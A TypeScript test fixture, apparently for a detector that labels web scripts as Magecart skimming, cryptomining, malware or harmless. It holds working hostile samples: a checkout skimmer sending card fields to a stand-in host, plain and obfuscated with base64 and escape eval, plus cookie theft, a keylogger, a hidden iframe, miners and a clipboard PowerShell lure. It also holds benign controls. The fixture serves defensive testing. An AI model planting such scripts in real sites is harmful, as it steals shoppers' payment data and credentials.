// Scripts with what is to be said of them. Inert texts: nothing of this is ever run, and the hosts do not exist.
import type { Head } from './rules.ts'

export interface ScriptCase {
  readonly name: string
  readonly source: string
  /** null: harmless. */
  readonly head: Head | null
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const percent = (text: string): string =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`

export const SCRIPT_CASES: readonly ScriptCase[] = [
  { name: 'fields of a checkout sent by an image', source: SKIMMER, head: 'magecart' },
  { name: 'the same, evaluated from base64', source: `eval(atob('${base64(SKIMMER)}'))`, head: 'magecart' },
  {
    name: 'the same, evaluated from escapes',
    source: `eval(unescape('${percent(SKIMMER)}'))`,
    head: 'magecart',
  },
  { name: 'the same, in a page', source: `<html><script>\n${SKIMMER}\n</script></html>`, head: 'magecart' },
  {
    name: 'a card number to a socket',
    source: `jQuery('#cc_number').change(function(){new WebSocket('wss://a.example.org/').send(jQuery(this).val())})`,
    head: 'magecart',
  },
  {
    name: 'a miner',
    source: `var m=new CoinHive.Anonymous('KEY',{throttle:0.3});m.start()`,
    head: 'cryptomining',
  },
  {
    name: 'a miner in a page',
    source: `<script src="https://a.example/m.js"></script><script>var m=new Client.Anonymous('abc');m.start();</script>`,
    head: 'cryptomining',
  },
  {
    name: 'a frame out of sight, from escapes',
    source: `document.write(unescape('${percent('<iframe src="http://a.example/x" width=1 height=1 style="visibility:hidden"></iframe>')}'))`,
    head: 'malware',
  },
  {
    name: 'all cookies to an image',
    source: `new Image().src='//a.example/?c='+document.cookie`,
    head: 'malware',
  },
  {
    name: 'keys to another host',
    source: `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
    head: 'malware',
  },
  {
    name: 'a command on the clipboard',
    source: `b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "FILLER"')}`,
    head: 'malware',
  },
  { name: 'nothing', source: '', head: null },
  { name: 'one assignment', source: 'var a=1', head: null },
  {
    name: 'a counter',
    source: `(function(i,s,o,g,r,a,m){i.GoogleAnalyticsObject=r;a=s.createElement(o);m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga')`,
    head: null,
  },
  {
    name: 'a card number checked and kept on the page',
    source: `document.querySelector('#cc_number').addEventListener('input',function(){this.classList.toggle('error',!/^4[0-9]{12}$/.test(this.value))})`,
    head: null,
  },
  {
    name: 'an order sent to its own shop',
    source: `$('#co-payment-form').submit(function(e){e.preventDefault();$.post('/checkout/onepage/saveOrder/',$(this).serialize(),function(r){location=r.redirect})})`,
    head: null,
  },
  { name: 'a client that is started', source: `var c=new Client('abc');c.start()`, head: null },
  {
    name: 'own settings from base64',
    source: `window.config=JSON.parse(atob('${base64('{"api":"/api"}')}'))`,
    head: null,
  },
  { name: 'text that is no script', source: 'this is { not a (script', head: null },
]
